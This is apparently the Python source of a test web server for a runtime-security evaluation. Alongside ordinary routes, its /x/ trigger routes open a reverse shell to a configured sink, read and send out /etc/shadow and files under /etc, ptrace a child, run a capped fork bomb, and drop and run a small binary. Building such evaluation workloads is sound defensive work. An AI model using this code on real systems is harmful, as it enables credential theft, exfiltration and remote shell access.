"""The web workload of the security evaluation (bench/eval, make eval).

A small HTTP server (standard library only) with ordinary routes, which the
harness's load generator exercises while athena learns and then enforces,
and trigger routes under /x/ that make the server itself misbehave, as a
compromised server would: the misbehaviour runs inside the server process,
so it is judged against what this very workload learned.

    python3 server.py [--port 8080] [--tag TAG]

--tag only changes the command line (athena keys what it learns about a
workload on image + command line), so one evaluation run can learn from
scratch. EVAL_SINK=HOST:PORT is where the exfiltration and reverse-shell
triggers connect (the harness listens there, on the host).

Ordinary routes:
    GET  /health            "ok"
    GET  /                  a small index page
    GET  /static/NAME       a file of ./static
    GET  /info              JSON from /etc/os-release and /proc/self/status
    GET  /compute?n=N       a SHA-256 chain of N rounds
    GET  /log?msg=TEXT      append to /var/log/evalapp/access.log
    POST /upload?name=NAME  store the body under /tmp/uploads/
    GET  /job?n=N           the /compute work in a forked child (fork per job)
    GET  /report            run `uname -sr` (a server that shells out to a tool)

Trigger routes (never called while learning), each answering JSON with
the outcome of every step ("ok ..." or the error it met):
    /x/shell     spawn `sh -c id`
    /x/revshell  connect to EVAL_SINK, run `sh -i` on the socket
    /x/shadow    read /etc/shadow, then send it to EVAL_SINK
    /x/exfil     read up to 200 files under /etc, then connect to EVAL_SINK
    /x/ptrace    fork a child and PTRACE_ATTACH to it
    /x/forkbomb  fork as fast as possible for up to 5 s (at most 200
                 children, which wait on a pipe and exit when released)
    /x/drop      write an executable to /tmp and run it
"""

import argparse
import ctypes
import hashlib
import http.server
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
STATIC = os.path.join(HERE, "static")
LOG_DIR = "/var/log/evalapp"
UPLOADS = "/tmp/uploads"

# Loaded at start, so that what a trigger does is its behaviour, not the
# loading of a library the learned workload never loaded.
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
LIBC.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def chain(n):
    h = b"athena"
    for _ in range(n):
        h = hashlib.sha256(h).digest()
    return h.hex()


def job(n):
    """Runs chain(n) in a forked child, as servers that fork per job do;
    the child sends the answer back through a pipe."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            os.close(r)
            os.write(w, chain(n).encode())
            code = 0
        finally:
            os._exit(code)
    os.close(w)
    try:
        out = b""
        while True:
            b = os.read(r, 4096)
            if not b:
                break
            out += b
    finally:
        os.close(r)
        _, status = os.waitpid(pid, 0)
    if status != 0:
        raise OSError("job child exited with status %d" % status)
    return out.decode()


def sink():
    host, _, port = os.environ.get("EVAL_SINK", "").rpartition(":")
    if not host:
        raise OSError("EVAL_SINK not set")
    return host, int(port)


def tiny_elf():
    """A complete static x86-64 executable of 161 bytes: write(1,
    "dropped\\n", 8); exit(0). The dropped binary needs no file of the image."""
    code = (b"\xb8\x01\x00\x00\x00"          # mov eax, 1 (write)
            b"\xbf\x01\x00\x00\x00"          # mov edi, 1
            b"\x48\x8d\x35\x10\x00\x00\x00"  # lea rsi, [rip+16] (msg)
            b"\xba\x08\x00\x00\x00"          # mov edx, 8
            b"\x0f\x05"                      # syscall
            b"\xb8\x3c\x00\x00\x00"          # mov eax, 60 (exit)
            b"\x31\xff"                      # xor edi, edi
            b"\x0f\x05"                      # syscall
            b"dropped\n")
    base, hdr = 0x400000, 64 + 56
    size = hdr + len(code)
    ehdr = struct.pack("<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0,
                       2, 0x3E, 1, base + hdr, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return ehdr + phdr + code


def step(steps, name, fn):
    """Runs one step of a trigger and records its outcome."""
    try:
        steps.append({"step": name, "result": "ok " + str(fn())})
        return True
    except Exception as e:  # the point is to report what stopped it
        steps.append({"step": name, "result": "%s: %s" % (type(e).__name__, e)})
        return False


def x_shell(steps):
    step(steps, "spawn sh -c id", lambda: subprocess.run(
        ["sh", "-c", "id"], capture_output=True, timeout=5, check=True).stdout.decode().strip())


def x_revshell(steps):
    conn = []
    if not step(steps, "connect to sink", lambda: conn.append(socket.create_connection(sink(), timeout=3)) or "connected"):
        return
    s = conn[0]

    def shell():
        p = subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
        try:
            return "exit %d" % p.wait(timeout=8)
        except subprocess.TimeoutExpired:
            p.kill()
            return "killed after 8s"
    try:
        step(steps, "run sh -i on the socket", shell)
    finally:
        s.close()


def send_to_sink(data):
    with socket.create_connection(sink(), timeout=3) as c:
        c.sendall(data)
    return "sent %d bytes" % len(data)


def x_shadow(steps):
    got = []
    step(steps, "read /etc/shadow", lambda: got.append(open("/etc/shadow", "rb").read()) or "%d bytes" % len(got[0]))
    step(steps, "send to sink", lambda: send_to_sink(b"shadow:" + (got[0] if got else b"")))


def x_exfil(steps):
    data, refused = [], []

    def walk():
        for dirpath, dirnames, filenames in os.walk("/etc", onerror=refused.append):
            for f in sorted(filenames):
                if len(data) >= 200:
                    return "%d files, %d bytes, %d refused" % (len(data), sum(map(len, data)), len(refused))
                p = os.path.join(dirpath, f)
                try:
                    if os.path.isfile(p) and not os.path.islink(p):
                        with open(p, "rb") as fh:
                            data.append(fh.read(65536))
                except OSError as e:
                    refused.append(e)
        if not data:
            raise OSError("read nothing (%d refused: %s)" % (len(refused), refused[0] if refused else "-"))
        return "%d files, %d bytes, %d refused" % (len(data), sum(map(len, data)), len(refused))
    step(steps, "read files under /etc", walk)
    step(steps, "send to sink", lambda: send_to_sink(b"".join(data)[:1 << 20] or b"nothing"))


def x_ptrace(steps):
    r, w = os.pipe()
    pid = []

    def fork():
        p = os.fork()
        if p == 0:
            try:
                os.close(w)
                os.read(r, 1)
            finally:
                os._exit(0)
        pid.append(p)
        return "child %d" % p
    try:
        if not step(steps, "fork a child", fork):
            return

        def attach():
            if LIBC.ptrace(PTRACE_ATTACH, pid[0], None, None) != 0:
                e = ctypes.get_errno()
                raise OSError(e, os.strerror(e))
            os.waitpid(pid[0], 0)  # the child stops
            LIBC.ptrace(PTRACE_DETACH, pid[0], None, None)
            return "attached and detached"
        step(steps, "PTRACE_ATTACH the child", attach)
    finally:
        os.close(w)
        os.close(r)
        for p in pid:
            try:
                os.waitpid(p, 0)
            except OSError:
                pass


def x_forkbomb(steps):
    # Bounded: at most 200 children. Under gVisor each forked Python child
    # costs some 10 MB (measured: 265 children, 2.7 GB), so more would have
    # the container's memory limit kill the whole sandbox, and with it the
    # measurement.
    r, w = os.pipe()
    children, errors, first_error = [], 0, None
    start = time.monotonic()
    while time.monotonic() - start < 5 and len(children) < 200 and errors < 20:
        try:
            p = os.fork()
        except OSError as e:
            errors += 1
            first_error = first_error or e
            continue
        if p == 0:
            try:
                os.close(w)
                os.read(r, 1)
            finally:
                os._exit(0)
        children.append(p)
    took = time.monotonic() - start
    os.close(w)  # release the children
    os.close(r)
    reaped = 0
    for p in children:
        try:
            os.waitpid(p, 0)
            reaped += 1
        except OSError:
            pass
    res = "%d children in %.2fs, %d reaped" % (len(children), took, reaped)
    if first_error is not None:
        res += ", %d fork errors (first: %s)" % (errors, first_error)
    steps.append({"step": "fork bomb", "result": ("ok " if children else "") + res})


def x_drop(steps):
    path = "/tmp/.cache-update"

    def write():
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
        try:
            return "%d bytes" % os.write(fd, tiny_elf())
        finally:
            os.close(fd)
    if step(steps, "write " + path, write):
        step(steps, "run " + path, lambda: subprocess.run(
            [path], capture_output=True, timeout=5, check=True).stdout.decode().strip())


TRIGGERS = {
    "shell": x_shell, "revshell": x_revshell, "shadow": x_shadow, "exfil": x_exfil,
    "ptrace": x_ptrace, "forkbomb": x_forkbomb, "drop": x_drop,
}


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def reply(self, code, body, ctype="text/plain"):
        if isinstance(body, str):
            body = body.encode()
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        u = urllib.parse.urlsplit(self.path)
        q = urllib.parse.parse_qs(u.query)
        try:
            if u.path == "/health":
                return self.reply(200, "ok")
            if u.path == "/":
                names = sorted(os.listdir(STATIC))
                return self.reply(200, "<ul>%s</ul>" % "".join("<li>%s</li>" % n for n in names), "text/html")
            if u.path.startswith("/static/"):
                name = os.path.basename(u.path)
                with open(os.path.join(STATIC, name), "rb") as f:
                    return self.reply(200, f.read())
            if u.path == "/info":
                with open("/etc/os-release") as f:
                    osr = dict(l.strip().split("=", 1) for l in f if "=" in l)
                with open("/proc/self/status") as f:
                    st = dict(l.split(":", 1) for l in f if ":" in l)
                return self.reply(200, json.dumps({"os": osr.get("PRETTY_NAME", "").strip('"'),
                                                   "threads": st.get("Threads", "").strip(),
                                                   "pid": os.getpid()}), "application/json")
            if u.path == "/compute":
                n = min(int(q.get("n", ["100"])[0]), 100000)
                return self.reply(200, chain(n))
            if u.path == "/job":
                n = min(int(q.get("n", ["100"])[0]), 100000)
                return self.reply(200, job(n))
            if u.path == "/log":
                msg = q.get("msg", [""])[0][:200].replace("\n", " ")
                with open(os.path.join(LOG_DIR, "access.log"), "a") as f:
                    f.write("%f %s\n" % (time.time(), msg))
                return self.reply(200, "logged")
            if u.path == "/report":
                out = subprocess.run(["uname", "-sr"], capture_output=True, timeout=5, check=True).stdout
                return self.reply(200, out)
            if u.path.startswith("/x/") and u.path[3:] in TRIGGERS:
                steps = []
                TRIGGERS[u.path[3:]](steps)
                return self.reply(200, json.dumps({"trigger": u.path[3:], "steps": steps}), "application/json")
            return self.reply(404, "not found")
        except Exception as e:
            return self.reply(500, "%s: %s" % (type(e).__name__, e))

    def do_POST(self):
        u = urllib.parse.urlsplit(self.path)
        q = urllib.parse.parse_qs(u.query)
        try:
            n = int(self.headers.get("Content-Length", "0"))
            body = self.rfile.read(n)
            if u.path == "/upload":
                name = os.path.basename(q.get("name", ["upload"])[0]) or "upload"
                with open(os.path.join(UPLOADS, name), "wb") as f:
                    f.write(body)
                return self.reply(200, "stored %d" % len(body))
            return self.reply(404, "not found")
        except Exception as e:
            return self.reply(500, "%s: %s" % (type(e).__name__, e))


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--tag", default="")
    args = ap.parse_args()
    os.makedirs(LOG_DIR, exist_ok=True)
    os.makedirs(UPLOADS, exist_ok=True)
    srv = Server(("0.0.0.0", args.port), Handler)

    def stop(signum, frame):
        raise SystemExit(0)
    signal.signal(signal.SIGTERM, stop)
    print("serving on :%d" % args.port, flush=True)
    try:
        srv.serve_forever(poll_interval=0.5)
    finally:
        srv.server_close()


if __name__ == "__main__":
    main()
